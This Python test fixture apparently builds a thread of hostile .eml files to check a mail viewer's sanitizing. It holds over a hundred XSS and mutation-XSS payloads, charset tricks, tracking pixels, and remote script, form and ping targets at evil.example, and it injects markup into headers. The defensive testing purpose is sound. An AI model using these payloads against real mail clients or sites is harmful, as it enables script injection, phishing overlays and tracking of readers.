"""Mails of somebody who wants to run a program in the reader's browser, or to know that the mail was read.

Each vector is the HTML of one mail. Wherever a program could stand is `HIT`, which marks the reader's window and opens
a dialog; wherever an address could stand is one of `EVIL`.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from datetime import UTC, datetime
from email.utils import format_datetime
from pathlib import Path
from typing import Final

EVIL: Final = "https://evil.example"
HIT: Final = "top.__hit=1;window.__hit=1;alert(1)"
_CODED: Final = base64.b64encode(f"<script>{HIT}</script>".encode()).decode()
_SVG: Final = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HIT}"><script>{HIT}</script></svg>'

VECTORS: Final[dict[str, str]] = {
    # programs as elements
    "script": f"<script>{HIT}</script>",
    "script-src": f'<script src="{EVIL}/x.js"></script>',
    "script-case": f"<ScRiPt>{HIT}</sCrIpT>",
    "script-nested": f"<scr<script></script>ipt>{HIT}</scr<script></script>ipt>",
    "script-unclosed": f"<script>{HIT}//",
    "script-slash": f"<script/x>{HIT}</script>",
    "script-module": f'<script type="module">import "{EVIL}/m.js"</script>',
    "script-nul": f"<scr\x00ipt>{HIT}</scr\x00ipt>",
    # handlers
    "img-onerror": f'<img src="x:x" onerror="{HIT}">',
    "img-onerror-bare": f"<img src=x onerror={HIT}>",
    "img-onerror-backtick": f"<img src=`x` onerror=`{HIT}`>",
    "img-onerror-slash": f'<img/src="x"/onerror="{HIT}">',
    "img-onload": f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="{HIT}">',
    "img-quote-break": f'<img alt="`><img src=x onerror={HIT}>">',
    "img-attr-entities": f'<img title="&quot;><img src=x onerror={HIT}>" src="x">',
    "body-onload": f'<body onload="{HIT}">x</body>',
    "body-onpageshow": f'<html><body onpageshow="{HIT}">x</body></html>',
    "div-onmouseover": f'<div onmouseover="{HIT}" style="width:900px;height:900px">x</div>',
    "div-focus": f'<div tabindex="0" autofocus onfocus="{HIT}">x</div>',
    "input-autofocus": f'<input autofocus onfocus="{HIT}">',
    "select-autofocus": f'<select autofocus onfocus="{HIT}"></select>',
    "details-ontoggle": f'<details open ontoggle="{HIT}">x</details>',
    "marquee": f'<marquee onstart="{HIT}">x</marquee>',
    "video-onerror": f'<video><source onerror="{HIT}"></video>',
    "audio": f'<audio src="x" onerror="{HIT}" autoplay></audio>',
    "animation": f'<style>@keyframes k{{}}</style><p style="animation-name:k" onanimationstart="{HIT}">x</p>',
    "transition": f'<p id="t" style="transition:color 1s" ontransitionend="{HIT}">x</p>',
    "handler-newline": f'<img src=x on\nerror="{HIT}">',
    "handler-tab": f'<img src=x onerror\t=\t"{HIT}">',
    "handler-slashes": f'<img src=x ////onerror="{HIT}">',
    "popover": f'<button popovertarget="p">x</button><div id="p" popover onbeforetoggle="{HIT}">x</div>',
    # drawings and formulas
    "svg-onload": f'<svg onload="{HIT}"></svg>',
    "svg-script": f"<svg><script>{HIT}</script></svg>",
    "svg-script-entities": "<svg><script>top.__hit&#61;1</script></svg>",
    "svg-animate": f'<svg><animate onbegin="{HIT}" attributeName="x" dur="1s"></animate></svg>',
    "svg-set": f'<svg><a><set attributeName="href" to="javascript:{HIT}"></set><text>x</text></a></svg>',
    "svg-use": f'<svg><use href="data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()}#x"></use></svg>',
    "svg-foreign": f'<svg><foreignObject><iframe srcdoc="&lt;script&gt;{HIT}&lt;/script&gt;"></iframe></foreignObject></svg>',
    "svg-image": f'<svg><image href="{EVIL}/s.png"></image></svg>',
    "svg-style": f"<svg><style><img src=x onerror={HIT}></style></svg>",
    "math-href": f'<math><a xlink:href="javascript:{HIT}">x</a></math>',
    "math-annotation": f'<math><annotation-xml encoding="text/html"><img src=x onerror="{HIT}"></annotation-xml></math>',
    # what changes its meaning when it is parsed again
    "mutation-noscript": f'<noscript><p title="</noscript><img src=x onerror={HIT}>"></noscript>',
    "mutation-style": f'<style><!--</style><img title="--><img src=x onerror={HIT}>">',
    "mutation-title": f'<title><img title="</title><img src=x onerror={HIT}>"></title>',
    "mutation-textarea": f'<textarea><img title="</textarea><img src=x onerror={HIT}>"></textarea>',
    "mutation-xmp": f'<xmp><p title="</xmp><img src=x onerror={HIT}>"></xmp>',
    "mutation-template": f'<template><img src=x onerror="{HIT}"></template>',
    "mutation-math-table": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={HIT}&gt;">',
    "mutation-svg-p": f'<svg></p><style><a id="</style><img src=1 onerror={HIT}>">',
    "mutation-form": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{HIT}">',
    "mutation-select": f'<select><noscript></select><img src=x onerror="{HIT}"></noscript>',
    "mutation-plaintext": f"<plaintext></plaintext><img src=x onerror={HIT}>",
    "comment-bang": f"<!--!><img src=x onerror={HIT}>-->",
    "comment-conditional": f"<!--[if gte IE 4]><script>{HIT}</script><![endif]-->",
    "comment-short": f"<!--><img src=x onerror={HIT}> -->",
    "cdata": f"<![CDATA[<img src=x onerror={HIT}>]]>",
    "processing": f"<?xml version='1.0'?><?x ><img src=x onerror={HIT}> ?>",
    # addresses that are programs
    "href-javascript": f'<a href="javascript:{HIT}" autofocus>x</a>',
    "href-javascript-case": f'<a href="JaVaScRiPt:{HIT}">x</a>',
    "href-javascript-tab": f'<a href="java\tscript:{HIT}">x</a>',
    "href-javascript-newline": f'<a href="java\nscript:{HIT}">x</a>',
    "href-javascript-entities": f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{HIT}">x</a>',
    "href-javascript-named": f'<a href="javascript&colon;{HIT}">x</a>',
    "href-javascript-hidden": f'<a href="java&Tab;script&NewLine;:{HIT}">x</a>',
    "href-javascript-control": f'<a href="\x01\x02javascript:{HIT}">x</a>',
    "href-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "href-data": f'<a href="data:text/html;base64,{_CODED}">x</a>',
    "href-view-source": f'<a href="view-source:javascript:{HIT}">x</a>',
    "href-blob": '<a href="blob:https://evil.example/1">x</a>',
    "href-file": '<a href="file:///etc/passwd">x</a>',
    "img-javascript": f'<img src="javascript:{HIT}">',
    "img-data-svg": f'<img src="data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()}">',
    "img-data-html": f'<img src="data:text/html;base64,{_CODED}">',
    # what loads or leads elsewhere
    "iframe": f'<iframe src="{EVIL}/f"></iframe>',
    "iframe-srcdoc": f'<iframe srcdoc="&lt;script&gt;{HIT}&lt;/script&gt;"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:{HIT}"></iframe>',
    "frameset": f'<frameset><frame src="javascript:{HIT}"></frameset>',
    "object": f'<object data="data:text/html;base64,{_CODED}"></object>',
    "embed": f'<embed src="{EVIL}/e.swf">',
    "applet": f'<applet code="x" codebase="{EVIL}/"></applet>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/m">',
    "meta-refresh-js": f'<meta http-equiv="refresh" content="0;url=javascript:{HIT}">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
    "base": f'<base href="{EVIL}/"><img src="b.png"><a href="x">x</a>',
    "link-style": f'<link rel="stylesheet" href="{EVIL}/l.css">',
    "link-prefetch": f'<link rel="dns-prefetch preconnect prefetch" href="{EVIL}/">',
    "style-import": f'<style>@import url("{EVIL}/i.css");</style>',
    "style-element": f"<style>body{{background:url({EVIL}/b.png)}}</style>",
    "style-url": f'<div style="background:url({EVIL}/u.png)">x</div>',
    "style-url-escaped": f'<div style="background:\\75\\72\\6c({EVIL}/e.png)">x</div>',
    "style-comment": f'<div style="background:u/**/rl({EVIL}/c.png)">x</div>',
    "style-image-set": f"<div style=\"background-image:image-set('{EVIL}/s.png' 1x)\">x</div>",
    "style-expression": f'<div style="width:expression({HIT})">x</div>',
    "style-list": f'<ul style="list-style-image:url({EVIL}/l.png)"><li>x</ul>',
    "style-cursor": f'<div style="cursor:url({EVIL}/c.cur),auto">x</div>',
    "style-content": f'<p style="content:url({EVIL}/co.png)">x</p>',
    "style-font": f'<p style="font-family:x;src:url({EVIL}/f.woff)">x</p>',
    "style-overlay": '<div style="position:fixed;inset:0;z-index:99999;background:#fff">log in again</div>',
    "style-filter": f'<p style="filter:url({EVIL}/f.svg#x);mask:url({EVIL}/m.svg)">x</p>',
    "background-attribute": f'<table background="{EVIL}/t.png"><tr><td background="{EVIL}/d.png">x</table>',
    "img-remote": f'<img src="{EVIL}/p.gif" width="1" height="1">',
    "img-srcset": f'<img srcset="{EVIL}/s.gif 1x" src="cid:none">',
    "img-lowsrc": f'<img lowsrc="{EVIL}/l.gif" dynsrc="{EVIL}/d.gif" longdesc="{EVIL}/o">',
    "img-protocol-relative": '<img src="//evil.example/r.gif">',
    "img-backslash": '<img src="\\\\evil.example\\b.gif">',
    "picture": f'<picture><source srcset="{EVIL}/w.webp"><img src="{EVIL}/w.png"></picture>',
    "video-poster": f'<video poster="{EVIL}/v.png" src="{EVIL}/v.mp4" autoplay></video>',
    "image-element": f'<image src="{EVIL}/i.png">',
    "input-image": f'<input type="image" src="{EVIL}/ii.png">',
    "ping": f'<a href="https://fine.example/" ping="{EVIL}/ping">x</a>',
    "form": f'<form action="{EVIL}/form"><input name="p"><button autofocus>x</button></form>',
    "form-formaction": f'<form><button formaction="javascript:{HIT}">x</button></form>',
    "isindex": f'<isindex action="javascript:{HIT}" type="image">',
    "manifest": f'<html manifest="{EVIL}/m.appcache"><p>x</p></html>',
    "bgsound": f'<bgsound src="{EVIL}/b.wav"><layer src="{EVIL}/l"></layer>',
    "q-cite": f'<blockquote cite="{EVIL}/q">x</blockquote><q cite="javascript:{HIT}">x</q>',
    "named-clobbering": '<img name="body"><a id="letters" name="htmx">x</a><form id="main"></form>',
    "htmx-attributes": f'<div hx-get="{EVIL}/h" hx-trigger="load" hx-on:load="{HIT}" data-hx-get="/tickets/">x</div>',
    "dangling-markup": f"<img src='{EVIL}/?d=",
    "entities-double": f"&lt;script&gt;{HIT}&lt;/script&gt;&amp;lt;img src=x onerror={HIT}&amp;gt;",
    "rtl-and-zero-width": f'<a href="java\u200bscript:{HIT}">\u202ex</a>',
    "pretends-to-be-ours": '<p class="desk-bar"><a href="?pictures=1">Load pictures</a></p><div class="paper">x</div>',
}
#: charset the mail claims -> its bytes
CHARSETS: Final[dict[str, bytes]] = {
    "utf-7": f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-".encode("ascii"),
    "iso-2022-jp": b"\x1b$B<script>" + HIT.encode() + b"</script>\x1b(B",
    "utf-16": f"<script>{HIT}</script>".encode("utf-16"),
    "us-ascii": b"\xbcscript\xbe" + HIT.encode() + b"\xbc/script\xbe",
    "hz-gb-2312": b"~{<script>" + HIT.encode() + b"</script>~}",
}
_MARK: Final = f'"><img src=x onerror="{HIT}">'
_FIRST: Final = "<hostile-first@evil.example>"


def write(folder: Path) -> int:
    """Put the mails into a folder as files, all of one thread; how many."""
    folder.mkdir()
    mails = list(_mails())
    for number, raw in enumerate(mails):
        (folder / f"{number:03}.eml").write_bytes(raw)
    return len(mails)


def _mails() -> Iterator[bytes]:
    yield _mail(
        "first", f"<script>{HIT}</script> {EVIL}/plain {_MARK}".encode(), kind="text/plain", first=True
    )
    for name, html in VECTORS.items():
        yield _mail(name, html.encode())
    for charset, content in CHARSETS.items():
        yield _mail(f"charset-{charset}", content, charset=charset)
    calendar = f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:{_MARK}\r\nLOCATION:{_MARK}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    yield _mail("calendar", calendar.encode(), kind="text/calendar")
    yield _mail("svg-file", _SVG.encode(), kind="image/svg+xml")


def _mail(
    name: str, content: bytes, *, kind: str = "text/html", charset: str = "utf-8", first: bool = False
) -> bytes:
    """One mail; its headers and the name of its file are hostile too."""
    now = format_datetime(datetime.now(UTC))
    quoted = _MARK.replace('"', r"\"")
    head = [
        f'From: "Mallory {quoted}" <mallory@evil.example>',
        f'To: "Support {quoted}" <support@desk.example>',
        f"Subject: Hostile {_MARK if first else name}",
        f"Date: {now}",
        f"Message-ID: {_FIRST if first else f'<{name}@evil.example>'}",
        *([] if first else [f"In-Reply-To: {_FIRST}"]),
        "MIME-Version: 1.0",
        f'Content-Type: {kind}; charset="{charset}"; name="{quoted}.html"',
        "Content-Transfer-Encoding: base64",
    ]
    return "\r\n".join(head).encode() + b"\r\n\r\n" + base64.encodebytes(content)
